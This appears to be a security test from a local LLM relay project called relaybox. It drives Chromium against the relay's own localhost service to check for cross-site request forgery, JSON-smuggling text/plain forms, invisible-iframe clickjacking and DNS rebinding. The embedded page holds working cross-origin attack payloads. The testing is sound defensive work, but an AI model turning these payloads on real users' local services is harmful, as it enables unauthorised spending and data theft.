"""What a hostile web page could do to a relaybox on this machine, tried in Debian's Chromium; prints
what happened (JSON).

    python -m tests.browser_attacks http://127.0.0.1:PORT

The attacking page comes from another origin on this machine (a throwaway HTTP server on another
port, as a local dev server or any page the user opened would be). It sends a simple cross-site
request (no preflight, an opaque answer, but the call is made), a preflighted JSON request, and a
form whose text/plain body parses as JSON, and frames the dashboard (where a click the user makes
would be one on relaybox's own page). Then a page on a host name that resolves to 127.0.0.1
(`rebound.test`, as a DNS rebinding attack would make it) tries to read relaybox directly.

A process of its own: Playwright's sync API runs an asyncio loop, which trio-asyncio (loaded by
relaybox in the test process) would take over.
"""

from __future__ import annotations

import http.server
import json
import shutil
import sys
import threading
import urllib.parse
from typing import Any

from playwright.sync_api import sync_playwright

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
REBOUND = "rebound.test"

PAGE = """<!doctype html>
<title>a page the user happened to open</title>
<iframe name="sink" style="display:none"></iframe>
<iframe name="framed" src="RELAY/dashboard#providers" style="opacity:0.01"></iframe>
<form id="budget" method="POST" action="RELAY/api/budget" enctype="text/plain" target="sink">
  <input name='{"period": "daily", "limit_usd": 0.01, "enabled": true, "padding": "' value='"}'>
</form>
<script>
const relay = "RELAY";
const body = JSON.stringify({model: "gpt-4o-mini", messages: [{role: "user", content: "spend the subscription"}]});
window.results = {};
window.attack = async () => {
  try {
    await fetch(relay + "/v1/chat/completions", {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}, body});
  } catch (error) {
    // Sent all the same: the browser only keeps the (opaque) answer from the page.
  }
  window.results.no_cors = "sent";
  try {
    const answer = await fetch(relay + "/v1/chat/completions", {method: "POST", headers: {"content-type": "application/json"}, body});
    window.results.preflighted = `answered ${answer.status}`;
  } catch (error) {
    window.results.preflighted = "blocked by the browser";
  }
  document.getElementById("budget").submit();
  window.results.form = "submitted";
};
</script>
"""


def serve_page(relay: str) -> http.server.ThreadingHTTPServer:
    page = PAGE.replace("RELAY", relay).encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def attack(relay: str) -> dict[str, Any]:
    port = urllib.parse.urlsplit(relay).port
    server = serve_page(relay)
    seen: dict[str, Any] = {}
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=CHROMIUM,
                args=["--no-sandbox", f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1"],
            )
            page = browser.new_page()
            page.goto(f"http://127.0.0.1:{server.server_address[1]}/")
            page.evaluate("window.attack()")
            page.wait_for_timeout(1500)  # the form's POST lands in the hidden frame
            seen["page"] = page.evaluate("window.results")
            framed = page.frame(name="framed")
            seen["framed"] = {
                "url": framed.url if framed is not None else None,
                "dashboard": framed is not None and framed.query_selector("#kpis") is not None,
            }
            for path in ("/api/requests", "/actors", "/v1/models"):
                answer = page.goto(f"http://{REBOUND}:{port}{path}")
                seen[f"rebound {path}"] = {"status": answer.status, "body": page.content()}
            browser.close()
    finally:
        server.shutdown()
    return seen


if __name__ == "__main__":
    print(json.dumps(attack(sys.argv[1])))
